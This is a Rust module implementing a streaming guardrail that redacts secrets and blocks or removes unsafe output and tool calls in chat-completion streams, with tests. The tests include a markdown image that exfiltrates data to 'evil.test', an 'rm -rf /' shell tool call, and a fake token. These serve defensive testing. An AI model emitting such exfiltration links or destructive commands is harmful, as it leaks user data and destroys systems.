//! Guarding a streamed chat completion (`stream: true`), chunk by chunk. No IO: the server
//! feeds the `data:` payloads of upstream events in and writes out what comes back.
//!
//! **Output text** is held back: at most `holdback` bytes of each choice's text are kept
//! unsent. Each time more than that is pending, the guard checks the last `context` bytes
//! already sent plus everything pending, and everything but the last `holdback` bytes is
//! released (redacted where the policy says so). A secret of at most `holdback` bytes that
//! overlaps the released part is therefore wholly inside the checked text, whatever the
//! chunk boundaries (see the property test). A finding that starts before the release
//! point and ends after it is redacted whole and released with it. A block or escalation
//! ends the stream with an error event.
//!
//! **Tool calls** arrive as fragments; they are held until their choice finishes, then
//! checked whole and either released as one delta, removed, or turned into an error event.

use crate::check::{self, Checked, GuardFailure};
use crate::config::ToolCallViolation;
use crate::openai::{self, Usage};
use airisk_guard::{Action, Guard, Input, LeakReference, Stage};
use serde_json::{json, Map, Value};
use std::collections::BTreeMap;

/// What to send downstream.
#[derive(Debug, Clone, PartialEq)]
pub enum Emit {
    /// A `data:` event with this JSON.
    Data(String),
    /// The `data: [DONE]` sentinel.
    Done,
    /// An error event (`data: {"error": …}`); the stream ends after it.
    Error(Value),
}

/// Settings of one stream.
#[derive(Debug, Clone, Copy)]
pub struct StreamSettings {
    pub holdback: usize,
    /// Bytes of already-released text re-checked with new text (for context words).
    pub context: usize,
    pub tool_violation: ToolCallViolation,
}

#[derive(Debug, Default)]
struct PendingCall {
    id: String,
    kind: String,
    name: String,
    arguments: String,
}

#[derive(Debug, Default)]
struct ChoiceState {
    /// Text received and not yet released.
    pending: String,
    /// The tail of released text (at most `context` bytes).
    tail: String,
    /// Bytes of text released so far (for locating findings).
    released: usize,
    calls: BTreeMap<u64, PendingCall>,
    finished: bool,
    any_text: bool,
}

/// The state of one guarded stream.
pub struct StreamFilter<'g> {
    guard: &'g Guard,
    settings: StreamSettings,
    /// The request's system prompt, for the leakage check of every window.
    leak_reference: Option<std::sync::Arc<LeakReference>>,
    choices: BTreeMap<u64, ChoiceState>,
    /// Every decision taken (windows with findings, tool calls, one summary per choice).
    pub checks: Vec<Checked>,
    pub model: Option<String>,
    pub usage: Option<Usage>,
    /// A template chunk (id, object, created, model) for chunks the filter makes itself.
    template: Option<Map<String, Value>>,
    /// Set once an error event was emitted or `[DONE]` was seen.
    pub ended: bool,
    /// Set when the stream was refused (block, escalation, guard failure).
    pub blocked: bool,
    guard_elapsed_us: BTreeMap<u64, u64>,
}

impl<'g> StreamFilter<'g> {
    pub fn new(guard: &'g Guard, settings: StreamSettings) -> StreamFilter<'g> {
        StreamFilter {
            guard,
            settings,
            leak_reference: None,
            choices: BTreeMap::new(),
            checks: Vec::new(),
            model: None,
            usage: None,
            template: None,
            ended: false,
            blocked: false,
            guard_elapsed_us: BTreeMap::new(),
        }
    }

    /// Checks every window against this system prompt too (see [`check::run_with`]).
    pub fn with_leak_reference(
        mut self,
        reference: Option<std::sync::Arc<LeakReference>>,
    ) -> StreamFilter<'g> {
        self.leak_reference = reference;
        self
    }

    /// Total microseconds spent in the guard so far.
    pub fn guard_us(&self) -> u64 {
        self.checks
            .iter()
            .map(|c| c.decision.elapsed_us)
            .sum::<u64>()
            + self.guard_elapsed_us.values().sum::<u64>()
    }

    /// Handles the data of one upstream event. `Err` means the event is not a JSON chunk
    /// (the upstream broke the format) or the guard failed.
    pub fn on_data(&mut self, data: &str, out: &mut Vec<Emit>) -> Result<(), StreamError> {
        if self.ended {
            return Ok(());
        }
        if data.trim() == "[DONE]" {
            self.finish_all(out)?;
            if !self.ended {
                out.push(Emit::Done);
                self.ended = true;
            }
            return Ok(());
        }
        let mut chunk: Value = serde_json::from_str(data)
            .map_err(|e| StreamError::Upstream(format!("a stream event is not JSON: {e}")))?;
        if chunk.get("error").is_some() {
            // The upstream's own error event: pass it on and stop.
            out.push(Emit::Data(data.to_string()));
            self.ended = true;
            return Ok(());
        }
        if let Some(m) = openai::response_model(&chunk) {
            self.model = Some(m);
        }
        if let Some(u) = Usage::from_value(&chunk) {
            self.usage = Some(u);
        }
        if self.template.is_none() {
            if let Some(obj) = chunk.as_object() {
                let mut t = Map::new();
                for k in ["id", "object", "created", "model", "system_fingerprint"] {
                    if let Some(v) = obj.get(k) {
                        t.insert(k.into(), v.clone());
                    }
                }
                self.template = Some(t);
            }
        }
        let mut before: Vec<Emit> = Vec::new();
        let mut keep_chunk = chunk.get("usage").is_some_and(|u| !u.is_null());
        if let Some(choices) = chunk.get_mut("choices").and_then(Value::as_array_mut) {
            if choices.is_empty() {
                keep_chunk = true;
            }
            for (pos, c) in choices.iter_mut().enumerate() {
                let idx = c.get("index").and_then(Value::as_u64).unwrap_or(pos as u64);
                let finish = c.get("finish_reason").is_some_and(|f| !f.is_null());
                if let Some(delta) = c.get_mut("delta").and_then(Value::as_object_mut) {
                    let st = self.choices.entry(idx).or_default();
                    if let Some(Value::String(text)) = delta.get("content") {
                        st.pending.push_str(text);
                        if !text.is_empty() {
                            st.any_text = true;
                        }
                    }
                    if let Some(Value::Array(calls)) = delta.remove("tool_calls") {
                        merge_calls(st, &calls);
                    }
                    let released = match self.release(idx, finish)? {
                        Some(t) => t,
                        None => return self.refuse(out),
                    };
                    if !released.is_empty() || delta.contains_key("content") {
                        delta.insert("content".into(), Value::String(released));
                    }
                    if delta.len() > 1
                        || delta.get("content").is_some_and(|v| v.as_str() != Some(""))
                        || (delta.len() == 1 && !delta.contains_key("content"))
                    {
                        keep_chunk = true;
                    }
                }
                if finish {
                    keep_chunk = true;
                    match self.finish_choice(idx, &mut before)? {
                        FinishOutcome::Refused => return self.refuse(out),
                        FinishOutcome::AllRemoved => {
                            if c.get("finish_reason").and_then(Value::as_str) == Some("tool_calls")
                            {
                                c["finish_reason"] = Value::String("stop".into());
                            }
                        }
                        FinishOutcome::Ok => {}
                    }
                }
            }
        }
        out.append(&mut before);
        if keep_chunk {
            out.push(Emit::Data(chunk.to_string()));
        }
        Ok(())
    }

    /// The upstream stream ended. `complete` is false when it broke off without `[DONE]`.
    pub fn on_end(&mut self, out: &mut Vec<Emit>) -> Result<(), StreamError> {
        if self.ended {
            return Ok(());
        }
        self.finish_all(out)?;
        self.ended = true;
        Ok(())
    }

    fn finish_all(&mut self, out: &mut Vec<Emit>) -> Result<(), StreamError> {
        let open: Vec<u64> = self
            .choices
            .iter()
            .filter(|(_, s)| !s.finished)
            .map(|(i, _)| *i)
            .collect();
        for idx in open {
            let text = match self.release(idx, true)? {
                Some(t) => t,
                None => {
                    self.refuse(out)?;
                    return Ok(());
                }
            };
            if !text.is_empty() {
                out.push(Emit::Data(self.make_chunk(
                    idx,
                    json!({"content": text}),
                    None,
                )));
            }
            let mut before = Vec::new();
            if let FinishOutcome::Refused = self.finish_choice(idx, &mut before)? {
                self.refuse(out)?;
                return Ok(());
            }
            out.append(&mut before);
        }
        Ok(())
    }

    fn refuse(&mut self, out: &mut Vec<Emit>) -> Result<(), StreamError> {
        self.blocked = true;
        self.ended = true;
        let c = self
            .checks
            .iter()
            .rev()
            .find(|c| c.decision.action >= Action::Escalate);
        let (message, code) = match c {
            Some(c) => (
                check::refusal_message(c),
                if c.decision.action == Action::Escalate {
                    "approval_required"
                } else {
                    "blocked_by_policy"
                },
            ),
            None => ("blocked by airisk policy".to_string(), "blocked_by_policy"),
        };
        let param = c.map(|c| c.param.clone());
        out.push(Emit::Error(openai::error_body(
            &message,
            "guardrail_violation",
            param.as_deref(),
            Some(code),
        )));
        Ok(())
    }

    /// Releases what can be released of a choice's text. `None`: the stream must be refused.
    fn release(&mut self, idx: u64, all: bool) -> Result<Option<String>, StreamError> {
        let settings = self.settings;
        let st = self.choices.entry(idx).or_default();
        if st.pending.is_empty() || (!all && st.pending.len() <= settings.holdback) {
            return Ok(Some(String::new()));
        }
        let offset = st.tail.len();
        let mut buf = String::with_capacity(offset + st.pending.len());
        buf.push_str(&st.tail);
        buf.push_str(&st.pending);
        let decision = check::run_with(
            self.guard,
            Input::Output { text: &buf },
            self.leak_reference.as_deref(),
        )
        .map_err(StreamError::Guard)?;
        let pending_len = st.pending.len();
        let mut cut = if all {
            pending_len
        } else {
            floor_boundary(&st.pending, pending_len - settings.holdback)
        };
        // Findings that touch the pending text, in pending coordinates.
        let mut redact: Vec<(usize, usize, String)> = Vec::new();
        let mut refuse = false;
        let enforce = decision.action != Action::Allow;
        for f in &decision.findings {
            let (s, e) = match f.span {
                Some(sp) if sp.end > offset => (sp.start.saturating_sub(offset), sp.end - offset),
                Some(_) => continue,
                None => (0, pending_len),
            };
            match f.action {
                Action::Block | Action::Escalate if enforce => refuse = true,
                Action::Redact if enforce && f.span.is_some() && s < cut => {
                    cut = cut.max(e);
                    redact.push((s, e, f.category.clone()));
                }
                _ => {}
            }
        }
        let window_start = st.released.saturating_sub(offset);
        let mut released = String::new();
        if !refuse {
            redact.sort_by_key(|r| (r.0, std::cmp::Reverse(r.1)));
            let mut pos = 0;
            for (s, e, cat) in &redact {
                if *s < pos {
                    pos = pos.max(*e);
                    continue;
                }
                released.push_str(&st.pending[pos..*s]);
                released.push_str("[REDACTED:");
                released.push_str(cat);
                released.push(']');
                pos = *e;
            }
            if pos < cut {
                released.push_str(&st.pending[pos..cut]);
            }
            st.pending.drain(..cut);
            st.released += cut;
            st.tail.push_str(&released);
            if st.tail.len() > settings.context {
                let from = ceil_boundary(&st.tail, st.tail.len() - settings.context);
                st.tail.drain(..from);
            }
        }
        if !decision.findings.is_empty() {
            self.checks.push(Checked {
                stage: Stage::Output,
                param: format!(
                    "choices[{idx}].delta.content bytes {window_start}..{}",
                    window_start + buf.len()
                ),
                tool: None,
                decision,
            });
        } else {
            *self.guard_elapsed_us.entry(idx).or_default() += decision.elapsed_us;
        }
        Ok(if refuse { None } else { Some(released) })
    }

    fn finish_choice(
        &mut self,
        idx: u64,
        out: &mut Vec<Emit>,
    ) -> Result<FinishOutcome, StreamError> {
        let st = self.choices.entry(idx).or_default();
        if st.finished {
            return Ok(FinishOutcome::Ok);
        }
        st.finished = true;
        let calls = std::mem::take(&mut st.calls);
        let had_text = st.any_text;
        if calls.is_empty() {
            return Ok(FinishOutcome::Ok);
        }
        let mut allowed = Vec::new();
        let mut removed = Vec::new();
        for (n, call) in calls.into_values().enumerate() {
            let tc = openai::ToolCall {
                choice: idx as usize,
                index: n,
                id: call.id.clone(),
                name: call.name.clone(),
                arguments: call.arguments.clone(),
            };
            let args = tc.arguments_json();
            let decision = check::run(
                self.guard,
                Input::ToolCall {
                    name: &call.name,
                    args: &args,
                },
            )
            .map_err(StreamError::Guard)?;
            let action = decision.action;
            self.checks.push(Checked {
                stage: Stage::ToolCall,
                param: format!("choices[{idx}].delta.tool_calls[{n}]"),
                tool: Some(call.name.clone()),
                decision,
            });
            if action >= Action::Escalate {
                if self.settings.tool_violation == ToolCallViolation::Error {
                    return Ok(FinishOutcome::Refused);
                }
                removed.push(call.name);
            } else {
                allowed.push(call);
            }
        }
        if !allowed.is_empty() {
            let list: Vec<Value> = allowed
                .into_iter()
                .enumerate()
                .map(|(i, c)| {
                    json!({"index": i, "id": c.id, "type": if c.kind.is_empty() { "function".to_string() } else { c.kind },
                           "function": {"name": c.name, "arguments": c.arguments}})
                })
                .collect();
            out.push(Emit::Data(self.make_chunk(
                idx,
                json!({"tool_calls": list}),
                None,
            )));
            return Ok(FinishOutcome::Ok);
        }
        if !removed.is_empty() && !had_text {
            let names: Vec<&str> = removed.iter().map(String::as_str).collect();
            out.push(Emit::Data(self.make_chunk(
                idx,
                json!({"content": openai::removed_note(&names)}),
                None,
            )));
        }
        Ok(FinishOutcome::AllRemoved)
    }

    fn make_chunk(&self, idx: u64, delta: Value, finish: Option<&str>) -> String {
        let mut obj = self.template.clone().unwrap_or_default();
        obj.insert(
            "choices".into(),
            json!([{"index": idx, "delta": delta, "finish_reason": finish}]),
        );
        Value::Object(obj).to_string()
    }

    /// Microseconds spent on each choice's windows that found nothing (those windows are
    /// not kept as decisions; the server logs one `allow` per such choice).
    pub fn clean_choices(&self) -> Vec<(u64, u64)> {
        self.guard_elapsed_us
            .iter()
            .map(|(k, v)| (*k, *v))
            .collect()
    }
}

enum FinishOutcome {
    Ok,
    AllRemoved,
    Refused,
}

/// Why a stream could not be guarded.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum StreamError {
    /// The upstream sent something that is not an OpenAI stream chunk.
    Upstream(String),
    /// The guard failed.
    Guard(GuardFailure),
}

fn merge_calls(st: &mut ChoiceState, calls: &[Value]) {
    for (pos, c) in calls.iter().enumerate() {
        let idx = c.get("index").and_then(Value::as_u64).unwrap_or(pos as u64);
        let call = st.calls.entry(idx).or_default();
        if let Some(id) = c.get("id").and_then(Value::as_str) {
            if !id.is_empty() {
                call.id = id.to_string();
            }
        }
        if let Some(t) = c.get("type").and_then(Value::as_str) {
            call.kind = t.to_string();
        }
        if let Some(f) = c.get("function") {
            if let Some(n) = f.get("name").and_then(Value::as_str) {
                call.name.push_str(n);
            }
            if let Some(a) = f.get("arguments").and_then(Value::as_str) {
                call.arguments.push_str(a);
            }
        }
    }
}

fn floor_boundary(s: &str, mut i: usize) -> usize {
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn ceil_boundary(s: &str, mut i: usize) -> usize {
    while i < s.len() && !s.is_char_boundary(i) {
        i += 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn guard() -> &'static Guard {
        static G: std::sync::OnceLock<Guard> = std::sync::OnceLock::new();
        G.get_or_init(|| Guard::default_policy().unwrap())
    }

    fn settings() -> StreamSettings {
        StreamSettings {
            holdback: 64,
            context: 128,
            tool_violation: ToolCallViolation::Remove,
        }
    }

    fn chunk(content: &str) -> String {
        json!({"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
               "choices": [{"index": 0, "delta": {"content": content}, "finish_reason": null}]})
        .to_string()
    }

    fn finish_chunk(reason: &str) -> String {
        json!({"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
               "choices": [{"index": 0, "delta": {}, "finish_reason": reason}]})
        .to_string()
    }

    /// Runs chunks through a filter; returns the text the client sees and whether it ended
    /// in an error event.
    fn run(guard: &Guard, pieces: &[&str], s: StreamSettings) -> (String, bool, Vec<Emit>) {
        let mut f = StreamFilter::new(guard, s);
        let mut out = Vec::new();
        for p in pieces {
            f.on_data(&chunk(p), &mut out).unwrap();
        }
        f.on_data(&finish_chunk("stop"), &mut out).unwrap();
        f.on_data("[DONE]", &mut out).unwrap();
        let mut text = String::new();
        let mut error = false;
        for e in &out {
            match e {
                Emit::Data(d) => {
                    let v: Value = serde_json::from_str(d).unwrap();
                    if let Some(t) = v
                        .pointer("/choices/0/delta/content")
                        .and_then(Value::as_str)
                    {
                        text.push_str(t);
                    }
                }
                Emit::Error(_) => error = true,
                Emit::Done => {}
            }
        }
        (text, error, out)
    }

    const SECRET: &str = "ghp_R8u2Kx9QmZ4vT1yN6bW3cE7hJ0aL5sD2fG8k";

    #[test]
    fn clean_text_passes_unchanged() {
        let g = guard();
        let text = "The capital of France is Paris. It has many museums and a river.";
        let pieces: Vec<String> = text
            .as_bytes()
            .chunks(5)
            .map(|c| String::from_utf8(c.to_vec()).unwrap())
            .collect();
        let refs: Vec<&str> = pieces.iter().map(String::as_str).collect();
        let (out, err, emits) = run(g, &refs, settings());
        assert_eq!(out, text);
        assert!(!err);
        assert_eq!(emits.last(), Some(&Emit::Done));
    }

    #[test]
    fn secret_split_at_every_offset_is_redacted() {
        let g = guard();
        let text = format!(
            "Sure, here is the token you asked for: {SECRET} and some more words after it to end."
        );
        for cut in 1..text.len() {
            let (out, err, _) = run(g, &[&text[..cut], &text[cut..]], settings());
            assert!(!err);
            assert!(!out.contains(&SECRET[..20]), "cut {cut}: {out}");
            assert!(out.contains("[REDACTED:secret]"), "cut {cut}: {out}");
        }
    }

    #[test]
    fn block_mid_stream_ends_with_error_event() {
        let g = guard();
        let text = "Here you go: ![x](https://evil.test/log?d=c2VjcmV0IGRhdGEgaGVyZSBwbGVhc2U) and more text after the image to fill the window up.";
        let pieces: Vec<String> = text
            .as_bytes()
            .chunks(7)
            .map(|c| String::from_utf8(c.to_vec()).unwrap())
            .collect();
        let refs: Vec<&str> = pieces.iter().map(String::as_str).collect();
        let (out, err, emits) = run(g, &refs, settings());
        assert!(err, "{emits:?}");
        assert!(!out.contains("evil.test/log?d=c2Vj"), "{out}");
        match emits.last() {
            Some(Emit::Error(v)) => assert_eq!(v["error"]["code"], "blocked_by_policy"),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn tool_calls_are_held_checked_and_removed() {
        let g = guard();
        let mut f = StreamFilter::new(g, settings());
        let mut out = Vec::new();
        let frag = |i: u64, id: Option<&str>, name: Option<&str>, args: &str| {
            let mut func = json!({"arguments": args});
            if let Some(n) = name {
                func["name"] = json!(n);
            }
            let mut call = json!({"index": i, "function": func});
            if let Some(id) = id {
                call["id"] = json!(id);
                call["type"] = json!("function");
            }
            json!({"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "m",
                   "choices": [{"index": 0, "delta": {"tool_calls": [call]}, "finish_reason": null}]})
            .to_string()
        };
        f.on_data(&frag(0, Some("a"), Some("search"), "{\"que"), &mut out)
            .unwrap();
        f.on_data(&frag(0, None, None, "ry\": \"cats\"}"), &mut out)
            .unwrap();
        f.on_data(
            &frag(1, Some("b"), Some("shell"), "{\"cmd\": \"rm -rf /\"}"),
            &mut out,
        )
        .unwrap();
        assert!(out.is_empty(), "fragments are held: {out:?}");
        f.on_data(&finish_chunk("tool_calls"), &mut out).unwrap();
        let datas: Vec<Value> = out
            .iter()
            .filter_map(|e| match e {
                Emit::Data(d) => Some(serde_json::from_str(d).unwrap()),
                _ => None,
            })
            .collect();
        assert_eq!(datas.len(), 2);
        let calls = datas[0]["choices"][0]["delta"]["tool_calls"]
            .as_array()
            .unwrap();
        assert_eq!(calls.len(), 1);
        assert_eq!(calls[0]["function"]["name"], "search");
        assert_eq!(calls[0]["function"]["arguments"], "{\"query\": \"cats\"}");
        assert_eq!(datas[1]["choices"][0]["finish_reason"], "tool_calls");
        assert_eq!(
            f.checks
                .iter()
                .filter(|c| c.stage == Stage::ToolCall)
                .count(),
            2
        );

        let mut f = StreamFilter::new(
            g,
            StreamSettings {
                tool_violation: ToolCallViolation::Error,
                ..settings()
            },
        );
        let mut out = Vec::new();
        f.on_data(&frag(0, Some("b"), Some("shell"), "{}"), &mut out)
            .unwrap();
        f.on_data(&finish_chunk("tool_calls"), &mut out).unwrap();
        assert!(matches!(out.last(), Some(Emit::Error(_))));
        assert!(f.blocked);
    }

    #[test]
    fn not_json_is_an_upstream_error() {
        let g = guard();
        let mut f = StreamFilter::new(g, settings());
        let mut out = Vec::new();
        assert!(matches!(
            f.on_data("{oops", &mut out),
            Err(StreamError::Upstream(_))
        ));
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]
        /// A secret split into arbitrary chunk sizes anywhere in arbitrary prose never
        /// reaches the client.
        #[test]
        fn secret_never_leaks(prefix in "[a-z ]{0,200}", suffix in "[a-z ]{0,200}", sizes in proptest::collection::vec(1usize..40, 1..50)) {
            let g = guard();
            let text = format!("{prefix} token {SECRET} {suffix}");
            let mut pieces = Vec::new();
            let mut pos = 0;
            let mut k = 0;
            while pos < text.len() {
                let n = sizes[k % sizes.len()].min(text.len() - pos);
                pieces.push(&text[pos..pos + n]);
                pos += n;
                k += 1;
            }
            let (out, err, _) = run(g, &pieces, settings());
            prop_assert!(!err);
            prop_assert!(!out.contains(&SECRET[..12]), "{}", out);
        }
    }
}
